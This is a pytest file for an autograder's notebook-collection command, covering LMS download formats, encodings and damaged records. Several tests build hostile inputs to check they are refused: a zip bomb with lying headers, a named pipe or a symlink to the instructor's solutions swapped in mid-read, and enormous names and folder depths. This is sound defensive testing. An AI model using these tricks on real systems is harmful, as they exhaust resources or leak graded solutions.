def test_an_entry_whose_name_no_file_system_keeps_is_listed_at_once(course, tmp_path):
    """ch59: a zip entry's name may be 65,535 bytes long; three named `st/L` + 60,000 spaces + `x.ipynb` held
    collect for 4 minutes 42 s (the copy-suffix search took the square of the name's length), its lock
    kept all the while. Such a name is no lesson's notebook: listed as one at once, the others collected."""
    long_name = f"{A}" + " " * 60_000 + "x.ipynb"
    inbox = _zip(tmp_path / "class.zip", {f"alice/{long_name}": b"a", f"bob/{A}.ipynb": b"b"})
    said, start = [], time.monotonic()
    assert grading.collect(inbox, paths=course, on_skip=said.append) == [("bob", A)]
    assert time.monotonic() - start < 20
    assert any("alice/" in line and "no lesson named" in line for line in said), [s[:80] for s in said]


def test_a_later_folder_that_gives_a_collected_students_id_is_not_filed_over_them(course, tmp_path):
    """'Jose Garcia' collected, then 'José García' alone in a later zip: one id, maybe two students.
    It replaced Jose's hand-in with only a note (a red team's, 2026-12-02); it is refused and listed,
    saying what to rename. The same folder again, or in another case, is still that student's."""
    say = []
    grading.collect(_zip(tmp_path / "first.zip", {f"Jose Garcia/{A}.ipynb": b"jose's"}), paths=course,
                    on_skip=say.append)
    assert grading.collect(_zip(tmp_path / "late.zip", {f"José García/{A}.ipynb": b"jose-accent", f"José García/{B}.ipynb": b"b"}),
                           paths=course, on_skip=say.append) == []
    assert _submitted(course) == {f"Jose_Garcia/{A}/{A}.ipynb": b"jose's"}
    rows = _not_collected(course)
    assert {lesson for _, lesson, _ in rows} == {A, B}
    assert all("'José García' gives the id 'Jose_Garcia' of the folder 'Jose Garcia' collected before" in d
               for _, _, d in rows), rows
    assert any("José García" in line for line in say)
    again = _zip(tmp_path / "again.zip", {f"jose garcia/{A}.ipynb": b"jose's v2"})
    assert grading.collect(again, paths=course, on_skip=say.append, on_note=lambda m: None) == [("Jose_Garcia", A)]
    assert _submitted(course)[f"Jose_Garcia/{A}/{A}.ipynb"] == b"jose's v2"


def test_a_command_changing_the_course_waits_for_no_other_and_names_the_one_that_runs(course, tmp_path):
    """collect while autograde graded (or two autogrades at once) could replace a file under a running
    worker: each command that changes a course holds its lock, and a second one stops at once, saying
    which command holds it; the lock goes with the process, however it ends."""
    import subprocess
    import sys

    inbox = tmp_path / "inbox" / "ada"
    inbox.mkdir(parents=True)
    (inbox / f"{A}.ipynb").write_bytes(nbformat.writes(nbformat.v4.new_notebook()).encode())
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time\nfrom pathlib import Path\nfrom autograder import grading\n"
         "p = grading.Paths(root=Path(sys.argv[1]), work=Path(sys.argv[1]) / 'autograder', release=Path(sys.argv[1]) / 'lessons')\n"
         "with grading.one_at_a_time(p, 'autograde'):\n    print('held', flush=True)\n    time.sleep(600)\n",
         str(course.root)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(grading.CourseBusy, match=rf"`autograde` \(process {holder.pid}, started .*\) is working on this course"):
            grading.collect(inbox.parent, paths=course)
        assert not course.submitted.exists()  # nothing was touched
        from autograder.__main__ import main
        assert main(["--course", str(course.root), "collect", str(inbox.parent)]) == 2
    finally:
        holder.kill()
        holder.wait()
    assert grading.collect(inbox.parent, paths=course) == [("ada", A)]  # killed: the lock went with it
    with grading.one_at_a_time(course, "autograde"):  # a command inside another, in one process
        assert grading.collect(inbox.parent, paths=course) == [("ada", A)]


def _lying_zip(path, name, unpacked, says):
    """A zip of one deflated entry of ``unpacked`` zero bytes whose headers say it holds ``says`` bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(2**20)
    data = b"".join(packer.compress(block) for _ in range(unpacked // len(block))) + packer.flush()
    raw = name.encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(data), says, len(raw), 0) + raw
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(data), says, len(raw),
                          0, 0, 0, 0, 0, 0) + raw
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    path.write_bytes(local + data + central + end)
    return path


def test_a_zip_entry_that_unpacks_to_far_more_than_it_says_costs_no_memory(course, tmp_path):
    """An entry whose headers say 1,000 bytes, and that unpacks to gigabytes of zeros (a 3 MB zip), took
    collect to 2.1 GB of memory before its checksum failed: zipfile asks zlib for up to 2 GB at once and
    only then cuts the data to the size stated (ch35, 2026-12-06). It is listed, and costs little."""
    import tracemalloc

    inbox = _lying_zip(tmp_path / "bomb.zip", f"mallory/{A}.ipynb", unpacked=128 * 2**20, says=1000)
    tracemalloc.start()
    try:
        collected = grading.collect(inbox, paths=course, on_skip=lambda m: None)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert collected == []
    (why,) = [d for s, lesson, d in _not_collected(course) if s == "mallory" and lesson == A]
    assert "could not be read from the zip" in why, why
    assert peak < 32 * 2**20, f"collect held {peak / 2**20:.0f} MB for a 1,000-byte entry"


def test_canvas_flat_download_files_each_notebook_under_its_student(course, tmp_path):
    """Canvas's "Download Submissions" zip is flat: ``<name>_<user id>_<submission id>_<file>``, ``_LATE_`` after
    the name when late, ``-1`` before the extension when resubmitted. Stop 60 listed each as "no student folder
    above it" (ch38): an instructor's class was collected not at all. The student is ``<name>_<user id>`` (two
    John Smiths are two students, one student the same for every lesson); anything else flat is still listed."""
    inbox = _zip(tmp_path / "canvas.zip", {
        f"smithjohn_12345_998877_{A}.ipynb": b"john-a",
        f"smithjohn_67890_998878_{A}.ipynb": b"other-john-a",
        f"doejane_LATE_23456_998879_{A}-1.ipynb": b"jane-a",
        f"smithjohn_12345_998880_{B}.ipynb": b"john-b",
        f"{A}.ipynb": b"nobody",                                   # flat, not Canvas's: nobody's
        "smithjohn_12345_998881_notes.txt": b"text",               # Canvas's, not a notebook
    })
    collected = grading.collect(inbox, paths=course, on_skip=lambda m: None)
    assert sorted(collected) == sorted([("smithjohn_12345", A), ("smithjohn_67890", A), ("doejane_23456", A),
                                        ("smithjohn_12345", B)])
    got = _submitted(course)
    assert got[f"smithjohn_12345/{A}/{A}.ipynb"] == b"john-a" and got[f"smithjohn_67890/{A}/{A}.ipynb"] == b"other-john-a"
    assert got[f"doejane_23456/{A}/{A}.ipynb"] == b"jane-a" and got[f"smithjohn_12345/{B}/{B}.ipynb"] == b"john-b"
    listed = _not_collected(course)
    assert any("no student folder above it" in detail for _, _, detail in listed), listed
    assert any("not a notebook" in detail for _, _, detail in listed), listed


def test_a_flat_file_of_another_lms_is_listed_under_the_lesson_its_name_ends_with(course, tmp_path):
    """Brightspace's and Blackboard's flat downloads (``<ids> - <name> - <date> - L.ipynb``,
    ``<assignment>_<user>_attempt_<time>_L.ipynb``) are not taken (no student folder above them), and their
    rows had the lesson '?': ``status --lesson L`` left out every such hand-in of L (ch55)."""
    inbox = _zip(tmp_path / "flat.zip", {
        f"12345-67890 - Jane Doe - Dec 7, 2026 1000 AM - {A}.ipynb": b"jane",
        f"Lesson 3_jdoe_attempt_2026-12-07-10-00-00_{B} (1).ipynb": b"john",
        f"my{A}.ipynb": b"no lesson: the name runs on into it",
    })
    assert grading.collect(inbox, paths=course, on_skip=lambda m: None) == []
    listed = {(lesson, detail.split(" in flat.zip")[0]) for _, lesson, detail in _not_collected(course)
              if "flat.zip" in detail}
    assert listed == {(A, f"12345-67890 - Jane Doe - Dec 7, 2026 1000 AM - {A}.ipynb"),
                      (B, f"Lesson 3_jdoe_attempt_2026-12-07-10-00-00_{B} (1).ipynb"),
                      ("?", f"my{A}.ipynb")}, listed
    assert any(f"Jane Doe" in r["detail"] for r in grading.grades(course, lesson=A) if r["status"] == "not collected")


def test_canvas_download_unpacked_into_a_folder_and_zipped_again_is_still_filed_per_student(course, tmp_path):
    """An instructor who unpacks Canvas's flat zip into ``submissions/`` and zips that folder: every notebook
    was listed under one student, ``submissions``, as "no lesson named 'smithjohn_12345_998877_A'" (stop 61
    left it). The folder is a wrapper: each notebook is filed under its Canvas student, as from the flat zip."""
    inbox = _zip(tmp_path / "canvas.zip", {
        f"submissions/smithjohn_12345_998877_{A}.ipynb": b"john-a",
        f"submissions/doejane_LATE_23456_998879_{A}-1.ipynb": b"jane-a",
        f"submissions/smithjohn_12345_998880_{B}.ipynb": b"john-b",
    })
    said = []
    collected = grading.collect(inbox, paths=course, on_skip=said.append)
    assert sorted(collected) == sorted([("smithjohn_12345", A), ("doejane_23456", A), ("smithjohn_12345", B)]), said
    got = _submitted(course)
    assert got[f"smithjohn_12345/{A}/{A}.ipynb"] == b"john-a" and got[f"doejane_23456/{A}/{A}.ipynb"] == b"jane-a"
    assert got[f"smithjohn_12345/{B}/{B}.ipynb"] == b"john-b"
    assert not any(s == "submissions" for s, _, _ in _not_collected(course))


def test_a_file_swapped_for_a_named_pipe_after_the_listing_is_listed_not_waited_on(course, tmp_path, monkeypatch):
    """A folder source is listed first and read after: a notebook swapped for a named pipe (``mkfifo``, which any
    student may make in a folder they write to, an exchange's inbound one) in between was opened for reading,
    and ``open`` waits for a writer that never comes: collect hung for good, holding the course's lock, and
    nobody was collected (ch51, 2026-12-07). It is listed as not a plain file now, and the others are taken."""
    import threading

    from autograder import collect as collect_module

    inbox = tmp_path / "inbox"
    for who in ("alice", "mallory"):
        (inbox / who).mkdir(parents=True)
        (inbox / who / f"{A}.ipynb").write_bytes(who.encode())
    listed = collect_module._list_folder

    def then_swapped(source):
        entries = listed(source)
        (inbox / "mallory" / f"{A}.ipynb").unlink()
        os.mkfifo(inbox / "mallory" / f"{A}.ipynb")
        return entries

    monkeypatch.setattr(collect_module, "_list_folder", then_swapped)
    done = []
    worker = threading.Thread(target=lambda: done.append(grading.collect(inbox, paths=course, on_skip=lambda m: None)),
                              daemon=True)
    worker.start()
    worker.join(60)
    if worker.is_alive():  # (let the waiting open go, so that the suite goes on)
        with open(inbox / "mallory" / f"{A}.ipynb", "wb"):
            pass
        worker.join(60)
        pytest.fail("collect waited on a named pipe swapped in for a notebook")
    assert done == [[("alice", A)]]
    details = {d for who, _, d in _not_collected(course) if who == "mallory"}
    assert any(d.startswith(f"mallory/{A}.ipynb") and "not a plain file" in d for d in details), details


def test_a_student_folder_swapped_for_a_link_after_the_listing_is_not_followed(course, tmp_path, monkeypatch):
    """A folder source is listed first and read after: a student folder swapped for a symbolic link in between
    (to a folder of the instructor's that holds the lesson's notebook, ``solutions/01_tokenization``) was
    followed by the read, which refused a link only as the file's own name: the solution was filed and graded as
    that student's hand-in, full marks (ch51, 2026-12-07). Every folder on the way is opened without following a
    link now: the entry is listed as not read, and the others are taken."""
    from autograder import collect as collect_module

    inbox = tmp_path / "inbox"
    for who in ("alice", "mallory"):
        (inbox / who).mkdir(parents=True)
        (inbox / who / f"{A}.ipynb").write_bytes(who.encode())
    secret = tmp_path / "instructor" / A
    secret.mkdir(parents=True)
    (secret / f"{A}.ipynb").write_bytes(b"the instructor's solution")
    listed = collect_module._list_folder

    def then_swapped(source):
        entries = listed(source)
        (inbox / "mallory").rename(tmp_path / "mallory-away")
        os.symlink(secret, inbox / "mallory")
        return entries

    monkeypatch.setattr(collect_module, "_list_folder", then_swapped)
    collected = grading.collect(inbox, paths=course, on_skip=lambda m: None)
    assert collected == [("alice", A)]
    assert b"the instructor's solution" not in b"".join(_submitted(course).values())
    details = {d for who, _, d in _not_collected(course) if who == "mallory"}
    assert any(d.startswith(f"mallory/{A}.ipynb") and "could not be read" in d for d in details), details


def test_a_zip_of_thousands_of_stray_files_is_summed_up_in_collect_and_status_and_listed_whole_by_export(
        course, tmp_path, capsys):
    """A zip of 100,000 stray files printed 100,000 lines in collect and in status, the class's grades lost among
    them (ch53). Both print the first hundred, a lesson's notebook not taken before the stray files, and a count of
    the rest; the CSV still lists every entry."""
    from autograder.__main__ import main

    strays = {f"spam{i}/x{i}.txt": b"x" for i in range(300)}
    inbox = _zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"alice", **strays, f"{A}.ipynb": b"nobody's"})
    said, notes = [], []
    assert grading.collect(inbox, paths=course, on_skip=said.append, on_note=notes.append) == [("alice", A)]
    assert len(said) == 100 and said[0].startswith(f"{A}.ipynb: no student folder above it"), said[:2]
    assert any("... and 201 more entries not collected" in n for n in notes), notes
    rows = [r for r in grading.grades(course) if r["status"] == "not collected"]
    assert len(rows) == 301
    capsys.readouterr()
    assert main(["--course", str(course.root), "status"]) == 0
    out = capsys.readouterr().out
    shown = [line for line in out.splitlines() if "  not collected  " in line]
    assert len(shown) == 100 and any(f"{A}.ipynb in class.zip: no student folder" in line for line in shown)
    assert "... and 201 more entries not collected, not shown here" in out and "301 not collected" in out
    main(["--course", str(course.root), "export", "--out", str(tmp_path / "grades.csv")])
    with open(tmp_path / "grades.csv") as f:
        listed = [r for r in csv.DictReader(f) if r["status"] == "not collected"]
    assert len(listed) == 301 and {r["detail"].split(" in ")[0] for r in listed} == set(strays) | {f"{A}.ipynb"}


def _chain(top, depth, data=None):
    """``depth`` folders nested in ``top`` (made through descriptors: the whole path may pass the system's limit), a
    notebook of lesson A at the bottom when ``data`` is given."""
    fd = os.open(top, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    if data is not None:
        f = os.open(f"{A}.ipynb", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(f, data)
        os.close(f)
    os.close(fd)


def test_a_folder_source_with_thousands_of_nested_folders_is_collected_and_the_chain_listed(course, tmp_path):
    """A student's folder holding a chain of 10,000 nested folders made os.walk raise RecursionError, and collect
    stopped with a traceback, nobody collected (ch53). Now a chain deeper than Python's recursion is walked (its
    notebook taken), and one whose paths pass the system's limit is listed as a folder that could not be read."""
    inbox = tmp_path / "inbox"
    for name in ("alice", "chain", "deeper"):
        (inbox / name).mkdir(parents=True)
    (inbox / "alice" / f"{A}.ipynb").write_bytes(b"alice")
    try:
        _chain(inbox / "chain", 1_200, b"chain")
        _chain(inbox / "deeper", 3_000, b"deeper")
        assert sorted(grading.collect(inbox, paths=course, on_skip=lambda m: None)) == [("alice", A), ("chain", A)]
        assert _submitted(course) == {f"alice/{A}/{A}.ipynb": b"alice", f"chain/{A}/{A}.ipynb": b"chain"}
        ((student, lesson, detail),) = _not_collected(course)
        assert student == "deeper" and detail.startswith("deeper/d/d/") and "File name too long" in detail, detail
    finally:
        remove_tree(inbox)  # (pytest's own cleanup walks by recursion)


def test_two_notebooks_whose_paths_differ_only_in_how_accents_are_written_are_said_to_print_alike(course, tmp_path):
    """Zoë's folder twice in one zip, its name composed (NFC) and decomposed (NFD, as macOS writes it), each with
    the lesson: neither is taken, and the reason listed two paths that print identically, 'keep one' (ch58)."""
    nfc, nfd = "export/Zo\u00eb Ng", "export/Zoe\u0308 Ng"
    inbox = _zip(tmp_path / "class.zip", {f"{nfc}/{A}.ipynb": b"one", f"{nfd}/{A}.ipynb": b"two"})
    assert grading.collect(inbox, paths=course, on_skip=lambda m: None, wrapper=False) == []
    details = [d for student, _, d in _not_collected(course) if student == "export"]
    assert len(details) == 2 and all("2 notebooks" in d and "print alike" in d for d in details), details


def test_what_collect_lists_names_each_problem_in_a_line_an_instructor_can_read(course, tmp_path):
    """ch59's left items: an entry named with 4,000 spaces was printed whole by collect and `status`; one
    name stored twice in a zip was '2 notebooks ...: dupe/L, dupe/L; keep one'; 'CaseA' and 'casea' were each
    said to give another id, 'CaseA' and 'casea', though ids ignore case."""
    long = "long/" + A[:3] + " " * 4000 + "x.ipynb"
    with zipfile.ZipFile(tmp_path / "class.zip", "w") as archive:
        for name, data in ((f"CaseA/{A}.ipynb", b"1"), (f"casea/{A}.ipynb", b"2"), (f"dupe/{A}.ipynb", b"3"),
                           (f"dupe/{A}.ipynb", b"4"), (long, b"5")):
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # (zipfile's 'Duplicate name', the case itself)
                archive.writestr(name, data)
    said = []
    assert grading.collect(tmp_path / "class.zip", paths=course, on_skip=said.append) == []
    rows = _not_collected(course)
    (stray,) = [d for who, _, d in rows if who == "long"]
    assert len(stray) < 1500 and "characters …]" in stray and stray.startswith("long/01_") and "x.ipynb" in stray, stray
    assert max(map(len, said)) < 1500, [len(s) for s in said]
    dupes = [d for who, _, d in rows if who == "dupe"]
    assert dupes and all("holds one name more than once" in d for d in dupes), dupes  # (a set: one row)
    cased = [d for who, _, d in rows if who.lower() == "casea"]
    assert len(cased) == 2 and all("ids 'CaseA' and 'casea', which are one" in d for d in cased), cased


def test_moodle_downloads_file_each_student_under_one_id_for_every_lesson(course, tmp_path):
    """Moodle's "Download all submissions" puts each student's files in ``<full name>_<participant id>_
    assignsubmission_file_/``, the participant id the assignment's own: each lesson's download filed one student
    under another id ('Jane_Doe_4711_assignsubmission_file' for one lesson, '..._5820_...' for the next: two
    rows, each missing the other lesson, ch60). The student is the full name; with folders turned off the
    files are flat, ``<full name>_<id>_assignsubmission_file_<file>``; under blind marking every name is
    "Participant", and the number is kept, as it is for two students of one name (not "2 notebooks ... keep one")."""
    first = _zip(tmp_path / "moodle-a.zip", {
        f"Jane Doe_4711_assignsubmission_file_/{A}.ipynb": b"jane-a",
        f"José García_4712_assignsubmission_file_/{A}.ipynb": b"jose-a",
        f"Participant_9001_assignsubmission_file_/{A}.ipynb": b"blind-a",
        f"Participant_9002_assignsubmission_file_/{A}.ipynb": b"blind-b",
        f"John Smith_4713_assignsubmission_file_/{A}.ipynb": b"john-a",  # two students of one name: each
        f"John Smith_4714_assignsubmission_file_/{A}.ipynb": b"other-john-a",  # keeps the number, as under blind marking
    })
    second = _zip(tmp_path / "moodle-b.zip", {
        f"Jane Doe_5820_assignsubmission_file_{B}.ipynb": b"jane-b",
        f"José García_5821_assignsubmission_onlinetext_/onlinetext.html": b"<p>text</p>",
    })
    assert sorted(grading.collect(first, paths=course, on_skip=lambda m: None)) == sorted(
        [("Jane_Doe", A), ("Jose_Garcia", A), ("Participant_9001", A), ("Participant_9002", A),
         ("John_Smith_4713", A), ("John_Smith_4714", A)])
    assert grading.collect(second, paths=course, on_skip=lambda m: None) == [("Jane_Doe", B)]
    got = _submitted(course)
    assert got[f"Jane_Doe/{A}/{A}.ipynb"] == b"jane-a" and got[f"Jane_Doe/{B}/{B}.ipynb"] == b"jane-b"


def _without_utf8_mark(path):
    """The zip with its names' UTF-8 mark (bit 11 of each header's flags) cleared, as macOS's Finder writes it."""
    data = bytearray(path.read_bytes())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(signature)
        while i >= 0:
            struct.pack_into("<H", data, i + at, struct.unpack_from("<H", data, i + at)[0] & ~0x800)
            i = data.find(signature, i + 4)
    path.write_bytes(bytes(data))
    return path


def test_a_zip_whose_utf8_names_are_not_marked_so_files_each_student_under_the_right_name(course, tmp_path):
    """macOS's Finder (Compress) writes UTF-8 names without the zip's UTF-8 mark; Python reads such names as
    code page 437: 'José' became 'Jos├⌐', the id 'xn--jos-k52ax2j', not the 'Jose' of the LMS's own zip (ch60).
    A name that is not UTF-8 (a Windows zip's code page) is read as before."""
    inbox = _without_utf8_mark(_zip(tmp_path / "finder.zip", {
        f"José/{A}.ipynb": b"jose", f"Zoë Ng/{A}.ipynb": b"zoe"}))
    with zipfile.ZipFile(inbox) as archive:
        assert all(not info.flag_bits & 0x800 for info in archive.infolist())
    windows = tmp_path / "windows.zip"
    _zip(windows, {f"Ana?s/{A}.ipynb": b"anais"})  # 'Anaïs' in code page 850 ('ï' is 0x8b there and in 437)
    windows.write_bytes(windows.read_bytes().replace(b"Ana?s", b"Ana\x8bs"))
    assert sorted(grading.collect(inbox, paths=course, on_skip=lambda m: None)) == [("Jose", A), ("Zoe_Ng", A)]
    assert grading.collect(windows, paths=course, on_skip=lambda m: None) == [("Anais", A)]


def test_a_folder_whose_names_are_not_utf8_files_each_student_under_the_name_it_meant(course, tmp_path):
    """A Windows zip unpacked by a tool that writes its names' bytes as they are leaves 'Jos\\x82' (code page 437's
    'é'): Python reads it as 'Jos\\udc82', filed as the student 'xn--jos-xi8p', not the 'Jose' of the zip itself,
    and a status row printed the escaped byte (ch60). Such a name is read in that code page; the file is still
    read by its own name."""
    inbox = tmp_path / "unpacked"
    base = os.fsencode(inbox)
    os.makedirs(base + b"/Jos\x82")
    os.makedirs(base + b"/bob")
    for name, data in [(b"/Jos\x82/" + A.encode() + b".ipynb", b"jose"), (b"/bob/" + A.encode() + b"\x82.ipynb", b"bob")]:
        with open(base + name, "wb") as f:
            f.write(data)
    assert grading.collect(inbox, paths=course, on_skip=lambda m: None) == [("Jose", A)]
    assert _submitted(course)[f"Jose/{A}/{A}.ipynb"] == b"jose"
    details = [detail for _, _, detail in _not_collected(course) if "unpacked" in detail]
    assert details and all("\udc82" not in d and "\\udc82" not in d for d in details), details
def _collect_under_a_file_size_limit(course, source, limit):
    """`collect` run as the instructor runs it, where no file may grow past ``limit`` bytes (RLIMIT_FSIZE: a
    write past it fails, EFBIG, as a full disk's fails midway): its exit code and what it printed."""
    import resource
    import signal
    import subprocess
    import sys

    def limited():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # (the write fails instead of ending the process)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    run = subprocess.run([sys.executable, "-m", "autograder", "--course", str(course.root), "collect", str(source)],
                         capture_output=True, text=True, preexec_fn=limited, timeout=120)
    return run.returncode, run.stdout + run.stderr


def test_a_hand_in_cut_short_by_a_full_disk_is_never_filed_and_collect_says_so_in_a_line(course, tmp_path):
    """ch61: the disk filled while collect wrote a hand-in: the first part of it stayed as the student's
    notebook (graded later as 'malformed notebook: invalid JSON', the student's fault), and collect ended in
    a traceback. Now each file is written whole or not at all, and collect stops with one line naming the
    file and what to do; run again with room, it takes everything."""
    small = nbformat.writes(nbformat.v4.new_notebook()).encode()
    big = nbformat.writes(nbformat.v4.new_notebook(metadata={"pad": "x" * 300_000})).encode()
    inbox = _zip(tmp_path / "class.zip", {f"ada/{A}.ipynb": small, f"bob/{A}.ipynb": big})
    code, said = _collect_under_a_file_size_limit(course, inbox, 200_000)
    assert code == 2 and "Traceback" not in said, said
    assert said.strip().splitlines()[-1].startswith(f"stopped: File too large ({course.submitted / 'bob' / A / A}.ipynb)")
    assert _submitted(course) == {f"ada/{A}/{A}.ipynb": small}  # bob's: not a part of it
    assert not [p for p in course.work.rglob("*") if p.name.endswith((".part", ".tmp"))]
    assert grading.collect(inbox, paths=course) == [("ada", A), ("bob", A)]
    assert _submitted(course) == {f"ada/{A}/{A}.ipynb": small, f"bob/{A}/{A}.ipynb": big}


@pytest.mark.parametrize("record, text", [
    ("status.json", '{"schema": 1, "entr'),  # cut short
    ("status.json", '{"schema": 1, "entries": [1, 2]}'),  # not what it writes
    ("status.json", '{"schema": 7, "entries": {}}'),
    ("collect.json", '[{"source": "x"'),
    ("collect.json", '{"rows": []}'),
    ("students.json", "\x00\x00\x00"),
    ("manual.json", "[]"),
])
def test_a_damaged_record_of_the_autograders_is_named_with_what_to_do(course, tmp_path, record, text):
    """ch61: a status.json or collect.json cut short (a disk error, a sync tool, a hand edit) stopped `status`,
    `collect` and `autograde` with a traceback into json, and collect had filed the hand-ins before its
    record failed to read. Now every command that reads it stops at once, in a line that names the file, says
    to move it away and what that costs."""
    from autograder.__main__ import main

    inbox = _zip(tmp_path / "class.zip", {f"ada/{A}.ipynb": b"{}"})
    grading.collect(inbox, paths=course)
    (course.work / record).write_text(text)
    later = _zip(tmp_path / "later.zip", {f"bob/{A}.ipynb": b"{}"})
    readers = {"status.json": ["status"], "collect.json": ["status", "collect"], "students.json": ["collect"],
               "manual.json": []}[record]
    said = (rf"^{re.escape(str(course.work / record))} is damaged \(.*\)\. It is the autograder's own record; move it "
            rf"away \(mv .*\) and run the command again: \w")
    for command in readers:
        with pytest.raises(SystemExit, match=said):
            main(["--course", str(course.root), command, *([str(later)] if command == "collect" else [])])
    if record == "manual.json":  # (read when autograde starts, or a replaced hand-in had been graded by hand)
        with pytest.raises(SystemExit, match=said):
            ManualRecord(course.manual_record)
    assert set(_submitted(course)) == {f"ada/{A}/{A}.ipynb"}  # nothing filed past the damaged record


@pytest.mark.parametrize("damage", ["garbage", "cut short"])
def test_a_damaged_gradebook_is_named_with_the_backup_to_restore(course, tmp_path, damage):
    """ch61: a gradebook.db that SQLite cannot read (another file copied over it, or cut short) ended status,
    collect and autograde in a traceback of sqlalchemy's ('file is not a database'); now each stops in one line
    naming the newest backup to copy over it, or to move it away and release afresh."""
    from autograder.__main__ import main
    from autograder.gradebook import open_gradebook

    inbox = _zip(tmp_path / "class.zip", {f"ada/{A}.ipynb": b"{}"})
    grading.collect(inbox, paths=course)
    with open_gradebook(course) as gradebook:  # (a real gradebook, then damaged)
        gradebook.update_or_create_student("ada")
    whole = course.gradebook.read_bytes()
    course.gradebook.write_bytes(b"not a database\n" * 100 if damage == "garbage" else whole[:len(whole) // 2])
    course.backups.mkdir(parents=True, exist_ok=True)
    older, newer = (course.backups / f"gradebook-2026120{d}-101010-000000001-autograde.db" for d in (1, 2))
    older.write_bytes(whole), newer.write_bytes(whole)
    said = rf"^{re.escape(str(course.gradebook))} cannot be read as a gradebook \(DatabaseError: .*\): copy the " \
           rf"newest backup over it \(cp {re.escape(str(newer))} .*\), or move it away and run `release`"
    later = _zip(tmp_path / "later.zip", {f"bob/{A}.ipynb": b"{}"})  # (a new hand-in: collect asks the gradebook)
    for command in (["status"], ["collect", str(later)], ["export"], ["autograde", "--no-sandbox"]):
        with pytest.raises(SystemExit, match=said):
            main(["--course", str(course.root), *command])


def test_a_source_that_is_no_zip_or_holds_nothing_says_what_it_is(course, tmp_path):
    """ch61: a zip cut short in its download, a tar or a RAR renamed .zip, a path with a typo and a single notebook
    were all '… is neither a folder nor a .zip', which told the instructor nothing to do; an empty zip, a zip of
    folders only and one of litter collected nothing and said nothing at all, as if the class were in."""
    import io
    import tarfile

    whole = _zip(tmp_path / "whole.zip", {f"ada/{A}.ipynb": b"{}"}).read_bytes()
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        info = tarfile.TarInfo(f"ada/{A}.ipynb")
        info.size = 2
        archive.addfile(info, io.BytesIO(b"{}"))
    sources = {"cut.zip": (whole[:len(whole) // 2], "a zip that cannot be read: its directory, at its end, is missing"),
               "tar.zip": (tar.getvalue(), "a tar archive, not a zip: unpack it"),
               "rar.zip": (b"Rar!\x1a\x07\x01\x00" + bytes(50), "a RAR archive, not a zip: unpack it"),
               "empty.zip": (b"", "an empty file (0 bytes), not a zip"),
               f"{A}.ipynb": (b"{}", "one notebook: collect reads a folder or a .zip of <student>/<lesson>.ipynb")}
    for name, (data, said) in sources.items():
        (tmp_path / name).write_bytes(data)
        with pytest.raises(SystemExit, match=rf"^{re.escape(str(tmp_path / name))}: {re.escape(said)}"):
            grading.collect(tmp_path / name, paths=course)
    with pytest.raises(SystemExit, match=r": no such file or folder \(a typo in the path\?\)$"):
        grading.collect(tmp_path / "clas.zip", paths=course)
    notes = []
    for name, entries in {"nothing.zip": {}, "folders.zip": {"ada/": b"", "bob/": b""},
                          "litter.zip": {"__MACOSX/ada/._x.ipynb": b"x", ".DS_Store": b"x"}}.items():
        with zipfile.ZipFile(tmp_path / name, "w") as archive:
            for entry, data in entries.items():
                archive.writestr(entry, data)
        assert grading.collect(tmp_path / name, paths=course, on_note=notes.append) == []
    (tmp_path / "empty-folder").mkdir()
    assert grading.collect(tmp_path / "empty-folder", paths=course, on_note=notes.append) == []
    assert notes == [f"nothing collected: {tmp_path / 'nothing.zip'} holds no files (empty, or folders only)",
                     f"nothing collected: {tmp_path / 'folders.zip'} holds no files (empty, or folders only)",
                     f"nothing collected: {tmp_path / 'litter.zip'} holds no files, only 2 of macOS's or Jupyter's litter",
                     f"nothing collected: {tmp_path / 'empty-folder'} holds no files (empty, or folders only)"]


def test_a_notebook_named_after_its_student_is_listed_under_its_lesson_saying_how_to_file_it(course, tmp_path):
    """ch61: Google Classroom's copies (`<assignment>/<student name> - L.ipynb`) and a folder per lesson
    (`L/<student>.ipynb`) were listed as 'no lesson named …' under no lesson, so `status --lesson L` said 'no
    submissions for lesson L … collect first' of a class whose every notebook was in the zip. They are listed
    under L, saying how to file them."""
    inbox = _zip(tmp_path / "class.zip", {f"Week 1/Alice Smith - {A}.ipynb": b"a", f"{B}/bob.ipynb": b"b",
                                          "carol/01_tokenisation.ipynb": b"c"})
    said = []
    assert grading.collect(inbox, paths=course, on_skip=said.append) == []
    rows = {(r["student"], r["lesson"]): r["detail"] for r in grading.grades(course) if r["status"] == "not collected"}
    assert set(rows) == {("Week_1", A), ("?", B), ("carol", "?")}, rows
    assert f"which ends with '{A}': the name holds more than the lesson's" in rows[("Week_1", A)]
    assert f"rename it {A}.ipynb in the student's folder" in rows[("Week_1", A)]
    assert f"not <lesson>/<student>.ipynb; put each notebook in a folder named after its student, as {B}.ipynb" \
           in rows[("?", B)]
    assert [r["status"] for r in grading.grades(course, lesson=A)] == ["not collected"]


def test_a_student_asked_for_in_another_case_is_the_student_collected(course, tmp_path, capsys):
    """ch61: ids are one ignoring case (collect files a later 'Alice' as 'alice'), but `status --student Alice` said
    'no submissions for student Alice … collect the students' notebooks first' of the collected alice, and
    `autograde --student Alice` graded nothing."""
    from autograder.__main__ import main

    grading.collect(_zip(tmp_path / "class.zip", {f"alice/{A}.ipynb": b"{}"}), paths=course)
    assert [(r["student"], r["lesson"]) for r in grading.grades(course, student="ALICE")] == [("alice", A), ("alice", B)]
    assert main(["--course", str(course.root), "status", "--student", "Alice"]) == 0
